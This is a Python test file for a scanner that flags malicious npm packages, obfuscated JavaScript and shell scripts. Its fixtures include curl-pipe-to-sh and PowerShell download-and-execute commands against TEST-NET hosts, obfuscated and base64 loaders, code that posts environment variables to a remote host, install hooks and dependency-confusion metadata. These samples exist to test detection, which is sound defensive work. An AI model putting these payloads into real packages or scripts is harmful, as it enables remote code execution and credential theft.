"""JavaScript/TypeScript on tree-sitter, JS deobfuscation, package.json and shell scripts.

Fixtures are built in code (``npm_attacks``); addresses are TEST-NET or ``.invalid``."""

from __future__ import annotations

import pytest

from app.core.archive import open_bytes
from app.core.capabilities import jsparse
from app.core.capabilities.javascript import scan_javascript
from app.core.capabilities.model import severity_rank
from app.core.capabilities.scan import scan_artifact, scan_text
from app.core.capabilities.shell import scan_script_file
from app.core.capabilities.threats import find_threats
from tests.core.capabilities.npm_attacks import Attack, _ps_encoded, attacks, js_obfuscated


def caps_of(hits) -> dict[str, str]:
    out: dict[str, str] = {}
    for h in hits:
        if h.capability not in out or severity_rank(h.severity) > severity_rank(out[h.capability]):
            out[h.capability] = h.severity
    return out


def decoded_of(h) -> str:
    return getattr(h, "decoded", "") or h.explanation


@pytest.mark.parametrize("attack", attacks(), ids=lambda a: a.name)
def test_every_hand_made_npm_attack_is_high_with_its_capabilities(attack: Attack):
    res = scan_artifact(open_bytes(attack.tarball(), f"{attack.name}.tgz"))
    caps = caps_of(res.findings)
    assert severity_rank(res.risk.level) >= 3, (res.risk, caps)
    assert attack.expect <= {c for c, s in caps.items() if severity_rank(s) >= 2}, caps
    assert res.errors == []


def test_obfuscator_string_array_is_decoded_and_the_command_shown():
    src = js_obfuscated(
        ["child_process", "execSync", "curl -s http://192.0.2.3/p | sh"],
        lambda r: (
            f"const c=require({r('child_process')});c[{r('execSync')}]({r('curl -s http://192.0.2.3/p | sh')});"
        ),
        rotate=2,
    )
    assert "execSync" in src  # the array holds it; the call site only shows a hex index
    hits, note = scan_javascript("index.js", src, "code")
    assert note is None
    by_cap = {h.capability: h for h in hits}
    assert by_cap["process.spawn"].rule == "js.child_process"
    assert "curl -s http://192.0.2.3/p | sh" in decoded_of(by_cap["exec.decode_then_exec"])


def test_base64_string_array_hides_the_names_from_the_text_rules():
    src = js_obfuscated(
        ["child_process", "exec", "curl -s http://192.0.2.4/p | sh"],
        lambda r: (
            f"require({r('child_process')})[{r('exec')}]({r('curl -s http://192.0.2.4/p | sh')});"
        ),
        encoding="base64",
    )
    assert "child_process" not in src and "curl" not in src
    caps = caps_of(scan_javascript("index.js", src, "code")[0])
    assert caps["process.shell_download"] == "high"
    assert caps["exec.decode_then_exec"] == "critical"


def test_eval_of_base64_reports_the_decoded_code_and_what_it_does():
    src = "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIpOw=='));\n"
    hits, _ = scan_javascript("lib/a.js", src, "code")
    dec = next(h for h in hits if h.capability == "exec.decode_then_exec")
    assert dec.severity == "critical" and 'require("child_process").execSync("id")' in decoded_of(
        dec
    )
    spawn = next(h for h in hits if h.capability == "process.spawn")
    assert spawn.line == 1 and spawn.explanation.startswith("In decoded data")


def test_ordinary_library_code_is_not_a_threat():
    src = (
        "const m = /a(b)/.exec(s); const v = cache.get(k); exports.run = function (s) { return m; };\n"
        "var g = new Function('return this')(); const env = { ...process.env, FORCE_COLOR: '1' };\n"
        "require('child_process').spawn('git', ['status'], { env: process.env, windowsHide: true });\n"
        "if (typeof window !== 'undefined' && !window.fetch) { window.fetch = polyfill; }\n"
        "const mod = require(path.join(__dirname, name)); fs.readFileSync(path.join(__dirname, 'x.json'));\n"
    )
    res = scan_artifact(
        open_bytes(Attack("plain-lib", {"index.js": src}, set()).tarball(), "p.tgz")
    )
    assert severity_rank(res.risk.level) <= 2, [(h.capability, h.severity) for h in res.findings]
    caps = caps_of(res.findings)
    assert "exec.dynamic" not in caps and "cred.env_bulk" not in caps and "net.outbound" not in caps


def test_regexp_exec_is_not_child_process():
    hits, _ = scan_javascript("a.js", "const r = /x/; r.exec('rm -rf /'); db.exec(sql);\n", "code")
    assert "process.spawn" not in caps_of(hits)


def test_minified_bundle_alone_is_not_a_finding_above_low():
    body = ";".join(f"function f{i}(a,b){{return a+b*{i}}}" for i in range(3000))
    hits, _ = scan_javascript("dist/app.min.js", body, "code")
    assert all(severity_rank(h.severity) <= 1 for h in hits)


def test_typescript_parses_with_its_grammar():
    src = "import { exec } from 'child_process';\nconst f = (c: string): void => { exec(c); };\n"
    hits, note = scan_javascript("src/run.ts", src, "code")
    assert note is None and caps_of(hits)["process.spawn"] == "medium"


def test_syntax_error_is_marked_unparsed_and_text_rules_still_apply():
    src = "const x = (;\nrequire('child_process').exec('curl http://192.0.2.5/a | sh')\n"
    hits, note = scan_javascript("bad.js", src, "code")
    assert note and "syntax errors" in note
    caps = caps_of(hits)
    assert "scan.unparsed" in caps and caps["process.shell_download"] == "high"


def test_deep_nesting_and_invalid_utf8_never_raise():
    deep = "x = " + "[" * 10000 + "]" * 10000 + ";\neval(atob('YWxlcnQoMSk='));\n"
    hits, _ = scan_javascript("deep.js", deep, "code")
    assert "exec.decode_then_exec" in caps_of(hits)
    text = b"var a = '\xff\xfe'; eval(atob('YWxlcnQoMSk='));".decode("utf-8", "surrogateescape")
    assert "exec.decode_then_exec" in caps_of(scan_text("bad-utf8.js", text))


def test_a_file_larger_than_one_tree_is_analysed_whole_in_pieces(monkeypatch):
    monkeypatch.setattr(jsparse, "MAX_PARSE", 4096)
    src = (
        "eval(atob('YWxlcnQoMSk='));\n"
        + "var a = 1;\n" * 2000
        + "require('child_process').exec('curl http://192.0.2.6/a | sh')\n"
    )
    hits, note = scan_javascript("big.js", src, "code")
    assert note is None  # cut at line breaks between statements: every piece parsed cleanly
    by_cap = {h.capability: h for h in hits}
    assert by_cap["exec.decode_then_exec"].line == 1
    # found by the tree in the last piece (js.*), at its line in the whole file
    assert by_cap["process.spawn"].line == 2002 and by_cap["process.spawn"].rule.startswith("js.")
    assert by_cap["process.shell_download"].severity == "high"


def test_lifecycle_node_script_links_the_file_to_install_time():
    setup_js = (
        "require('https').get('https://192.0.2.7/x');\nrequire('child_process').execSync('id');\n"
    )
    a = Attack(
        "linked",
        {"index.js": "module.exports = 1;\n", "lib/setup.js": setup_js, "lib/other.js": setup_js},
        set(),
        {"postinstall": "node ./lib/setup.js"},
    )
    res = scan_artifact(open_bytes(a.tarball(), "l.tgz"))
    found = {(h.path, h.capability): h for h in res.findings}
    # a request is raised one step at install time, and the hits say where they run
    assert found[("lib/setup.js", "net.outbound")].severity == "medium"
    assert found[("lib/other.js", "net.outbound")].severity == "low"
    assert getattr(found[("lib/setup.js", "process.spawn")], "place", "install") == "install"
    assert getattr(found[("lib/other.js", "process.spawn")], "place", "import") == "import"


def test_package_json_dependency_confusion_url_deps_and_bin_shadow():
    a = Attack(
        "x",
        {"index.js": "module.exports = 1;\n"},
        set(),
        version="99.0.1",
        extra={
            "name": "@acme/internal-billing",
            "bin": {"ls": "index.js"},
            "dependencies": {
                "a": "git+https://example.invalid/a.git",
                "b": "file:../b",
                "c": "^1.0.0",
            },
        },
    )
    found = {
        (h.capability, h.match) for h in scan_artifact(open_bytes(a.tarball(), "x.tgz")).findings
    }
    assert ("meta.dependency_confusion", "@acme/internal-billing@99.0.1") in found
    assert ("install.entrypoint_shadow", "ls") in found
    deps = {m for c, m in found if c == "meta.url_dependency"}
    assert deps == {'"a": "git+https://example.invalid/a.git"', '"b": "file:../b"'}


def test_powershell_encoded_command_in_a_script_file_is_decoded():
    cmd = "iwr http://192.0.2.8/a.ps1 | iex"
    text = f"@echo off\npowershell -nop -w hidden -enc {_ps_encoded(cmd)}\n"
    hits = scan_script_file("tools/run.bat", text, "code")
    enc = [h for h in hits if h.rule == "sh.ps_encoded_command"]
    assert enc and cmd in decoded_of(enc[0]) and enc[0].line == 2
    assert any(
        h.capability == "process.shell_download" and h.explanation.startswith("In the decoded")
        for h in hits
    )


def test_environment_sent_over_the_network_is_the_exfiltration_chain():
    sent = (
        "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
        "https.request({ host: '198.51.100.8', method: 'POST' }).end(body);\n"
    )
    hits, _ = scan_javascript("index.js", sent, "code")
    flow = [h for h in hits if h.rule == "js.net_send_secrets"]
    assert [(h.capability, h.severity, h.line) for h in flow] == [("net.outbound", "high", 3)]
    assert "chain.exfiltration" in {t.id for t in find_threats(hits)}
    # serialised for a local file next to an unrelated request: no flow, no chain
    kept = (
        "const fs = require('fs'), https = require('https');\n"
        "fs.writeFileSync('env.json', JSON.stringify(process.env));\nhttps.get('https://example.invalid/v');\n"
    )
    hits, _ = scan_javascript("index.js", kept, "code")
    assert not [h for h in hits if h.rule == "js.net_send_secrets"]
    assert "chain.exfiltration" not in {t.id for t in find_threats(hits)}


def test_string_array_hits_show_the_code_with_its_strings_put_back():
    code = js_obfuscated(
        ["os", "hostname", "env"],
        lambda r: (
            f"const _0xo=require({r('os')});module.exports=[_0xo[{r('hostname')}](),process[{r('env')}]];"
        ),
    )
    hits, _ = scan_javascript("index.js", code, "code")
    packer = next(h for h in hits if h.rule == "js.string_array")
    assert packer.decoded.startswith("const _0xo=require('os');module.exports=")
    assert "_0xo['hostname'](),process['env']" in packer.decoded


def test_minified_bundle_helpers_are_not_read_as_a_string_array():
    # a minified array of strings and a two-argument helper naming it, called as n(0), n(1):
    # no index shift, so not javascript-obfuscator's accessor (mlflow's UI chunks looked so)
    bundle = (
        "var t=['primary','secondary','success','danger','muted','info'];"
        "function n(e,r){return r?t[e].toUpperCase():t[e]}"
        "module.exports={a:n(0),b:n(1),c:n(2,1)};\n"
    )
    hits, _ = scan_javascript("dist/chunk.min.js", bundle, "code")
    assert not [h for h in hits if h.rule == "js.string_array"]


def test_analysis_tools_in_any_case_are_named_only_from_three_on():
    """The quick count of tool names before the quoted-name regex must not skip names in
    capitals, and two names (a sandboxed iframe, an analysis page) stay no finding."""
    three = (
        "const os = require('os');\n"
        "const seen = ['VMware', 'VirtualBox', 'QEMU'].some(n => os.cpus()[0].model.includes(n));\n"
    )
    two = "const os = require('os');\nconst x = ['sandbox', 'analysis'];\nos.cpus();\n"
    assert "evasion.anti_analysis" in caps_of(scan_javascript("lib/check.js", three, "code")[0])
    assert "evasion.anti_analysis" not in caps_of(scan_javascript("lib/check.js", two, "code")[0])
